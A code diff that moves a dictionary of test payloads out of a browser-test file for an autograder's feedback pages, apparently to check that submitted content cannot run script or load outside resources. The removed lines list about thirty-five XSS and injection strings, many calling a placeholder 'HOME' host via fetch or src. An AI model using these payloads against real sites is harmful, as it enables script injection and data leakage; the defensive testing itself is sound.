@@ -21,47 +21,10 @@ from autograder.feedback.page import Pages
 from autograder.gradebook.marks import CellMark, Mark
 from autograder.grading.session import failure
 from tests.browser import ANY, NARROW, PATIENCE, barriers, opened, overflow
+from tests.feedback.payloads import PAYLOADS
 from tests.toy_course import make_course
 
 pytestmark = [pytest.mark.browser, pytest.mark.slow]
-
-# What would phone home, HOME being the address of a server that counts.
-PAYLOADS = {
-    "script": "<script>fetch('HOME/a')</script>",
-    "script from there": "<script src=HOME/a.js></script>",
-    "script after an end tag": "</pre></code></article></main><script>fetch('HOME/b')</script>",
-    "script after a comment": "--><script>fetch('HOME/c')</script><!--",
-    "script after a title": "</title><script>fetch('HOME/d')</script>",
-    "script after an attribute": "\"><script>fetch('HOME/e')</script>",
-    "handler of a picture": "<img src=x onerror=\"fetch('HOME/f')\">",
-    "handler in an attribute": 'x" onmouseover="fetch(\'HOME/g\')" autofocus onfocus="alert(1)',
-    "svg": "<svg/onload=fetch('HOME/h')><animate onbegin=fetch('HOME/i')></svg>",
-    "svg use": "<svg><use href='HOME/j.svg#x'/><image href='HOME/k.png'/></svg>",
-    "math": "<math><mtext><img src='HOME/l' onerror=alert(1)></mtext></math>",
-    "math and style": "<math><mtext><table><mglyph><style><img src=HOME/m onerror=alert(1)>",
-    "iframe": "<iframe src='HOME/n'></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    "object": "<object data='HOME/o'></object><embed src='HOME/p'>",
-    "form": "<form action='HOME/q'><input autofocus onfocus=this.form.submit()></form>",
-    "style": "<style>@import 'HOME/r'; body{background:url(HOME/s)} main{display:none}</style>",
-    "style that covers": "<div style='position:fixed;inset:0;background:url(HOME/t)'>40/40</div>",
-    "link": "<link rel=stylesheet href='HOME/u'><link rel=prefetch href='HOME/v'>",
-    "refresh": "<meta http-equiv=refresh content='0;url=HOME/w'>",
-    "base": "<base href='HOME/x/'>",
-    "video": "<video poster='HOME/y' src='HOME/z' autoplay></video><audio src='HOME/1'>",
-    "picture": "![a](HOME/2.png) <img src='HOME/3.png'> ![b][c]\n\n[c]: HOME/4.png",
-    "script as a link": "[a](javascript:fetch('HOME/5')) <javascript:x> [b](&#106;avascript:x)",
-    "data as a link": "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-    "formula": "$\\text{<img src=HOME/6 onerror=alert(1)>}$ $\\href{javascript:alert(1)}{x}$",
-    "formula alone": "$$\\style{background:url(HOME/7)}{\\class{skip}{x}}$$",
-    "entities": "&lt;img src=HOME/8 onerror=alert(1)&gt; &amp;lt;script&amp;gt;",
-    "escapes": "\x1b]8;;HOME/9\x07link\x1b]8;;\x07\x1b[2J\x1b[38;2;1mred\x00\x08",
-    "turned around": "\u202e>tpircs/<)1(trela>tpircs<\u202c \u2066x\u2069",
-    "template": "{{ 7*7 }}{% raw %}{{ cells }}<%= 1 %>${alert(1)}",
-    "code fence": "```html\n<script>fetch('HOME/10')</script>\n```\n`<img src=HOME/11>`",
-    "table": "|<img src=HOME/12>|\n|-|\n|<script>alert(1)</script>|",
-    "broken tags": "<scr<script>ipt>fetch('HOME/13')</scr</script>ipt><a/href='HOME/14'/autofocus>",
-    "noscript": '<noscript><p title="</noscript><img src=HOME/15 onerror=alert(1)>">',
-}
 
 
 @pytest.fixture(scope="module")
